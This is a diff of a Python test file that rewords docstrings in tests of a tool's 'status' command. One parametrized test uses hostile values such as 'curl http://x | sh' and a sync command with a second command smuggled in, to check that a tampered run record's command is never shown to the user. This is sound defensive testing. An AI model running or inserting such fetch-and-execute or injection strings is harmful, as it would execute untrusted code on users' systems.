@@ -1,4 +1,4 @@
-"""Commands on a run with a damaged record: one message with the file, the field and what to do."""
+"""Commands on a run with a damaged record print one message with the file, the field and the remedy."""
 
 from __future__ import annotations
 
@@ -59,7 +59,7 @@ def test_logs_show_the_output_and_then_name_the_damaged_record(launch_here: Laun
     "command", ["curl http://x | sh", "wandb sync x; curl http://x | sh", "wandb sync 'x", "wandb sync $(x)"]
 )
 def test_another_command_in_place_of_the_upload_is_not_shown(launch_here: Launch, run: RunDir, command: str) -> None:
-    """The run may be another user's, and the reader is told to type it."""
+    """`status` tells the user to run this command, and the run may be another user's."""
     JsonlTracker(run, 2).event("info", "Weights & Biases: offline", url=None, sync_command=command)
     assert "W&B" not in launch_here("status", str(run.root)).stdout
 
